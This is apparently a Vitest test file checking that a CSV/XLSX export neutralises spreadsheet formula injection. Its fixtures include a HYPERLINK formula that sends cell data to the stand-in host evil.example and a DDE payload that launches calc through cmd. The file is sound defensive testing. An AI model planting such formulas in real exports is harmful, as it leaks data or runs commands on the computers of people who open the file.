import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, toCsv, type TableModel } from './table';
import { sheetName, xlsxBlob } from './xlsx';

// Issue "Hardening", item 6: an exported cell starting with "=", "+", "-", "@", tab or CR ran as
// a formula when the CSV was opened in Excel; the XLSX writer (SheetJS 0.18.5) had advisories.

/** A recognition list as an enterprise or submitter could name itself in the counter. */
const model: TableModel = {
  title: 'Erkenningen: Bouw/Horeca [2023]',
  columns: [
    { key: 'name', label: 'Onderneming' },
    { key: 'count', label: 'Aantal', unit: 'COUNT' },
  ],
  rows: [
    { id: '1', cells: { name: '=HYPERLINK("https://evil.example/?x="&A1,"Klik")', count: { value: 3, status: 'OK' } } },
    { id: '2', cells: { name: '+32 2 123 45 67', count: { value: -2, status: 'OK' } } },
    { id: '3', cells: { name: '-2+3', count: { value: 0, status: 'OK' } } },
    { id: '4', cells: { name: '@SUM(1)', count: { value: 1.5, status: 'OK' } } },
    { id: '5', cells: { name: '\t=1+1', count: { value: 1, status: 'OK' } } },
    { id: '6', cells: { name: '\r=1+1', count: { value: 1, status: 'OK' } } },
    { id: '7', cells: { name: 'Bakkerij Peeters', count: { value: 7, status: 'OK' } } },
    { id: '8', cells: { name: '-12', count: { value: 7, status: 'OK' } } },
  ],
};

describe('CSV export', () => {
  it("prefixes a text cell that starts a formula with ' and leaves numbers numeric", () => {
    expect(toCsv(model).split('\r\n')).toEqual([
      'Onderneming;Aantal',
      // The quote inside needs the cell quoted, and the prefix stays inside the quotes.
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Klik"")";3`,
      "'+32 2 123 45 67;-2", // a negative number (typed as number) stays a number
      "'-2+3;0",
      "'@SUM(1);1,5", // Dutch decimal comma
      `"'\t=1+1";1`, // a tab is quoted too
      `"'\r=1+1";1`,
      'Bakkerij Peeters;7',
      '-12;7', // text that is a plain negative number is not a formula: left as is
    ]);
  });

  it('neutralises each dangerous first character, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}cmd|' /C calc'!A0`)).toBe(`'${start}cmd|' /C calc'!A0`);
    for (const safe of ['a=b', ' =1', '1-2', '-3.5', '-3,5', '€ -5']) expect(neutraliseFormula(safe)).toBe(safe);
    expect(csvField(-42)).toBe('-42');
  });
});

describe('XLSX export', () => {
  it('writes a workbook whose cells read back: text as text (even "=…"), numbers as numbers', async () => {
    const blob = await xlsxBlob(
      [
        ['Onderneming', 'Aantal'],
        ['=1+2', -2],
        ['Brasserie De Linde — Zoë', 1.5],
      ],
      model.title,
    );
    const rows = await readSheet(Buffer.from(await blob.arrayBuffer()));
    expect(rows).toEqual([
      ['Onderneming', 'Aantal'],
      ['=1+2', -2], // a typed string cell: Excel shows it, never computes it
      ['Brasserie De Linde — Zoë', 1.5],
    ]);
  });

  it('names the sheet within Excel rules', () => {
    expect(sheetName(model.title)).toBe('Erkenningen  Bouw Horeca  2023');
    expect(sheetName('x'.repeat(40))).toHaveLength(31);
    expect(sheetName('[]')).toBe('Tabel');
  });
});
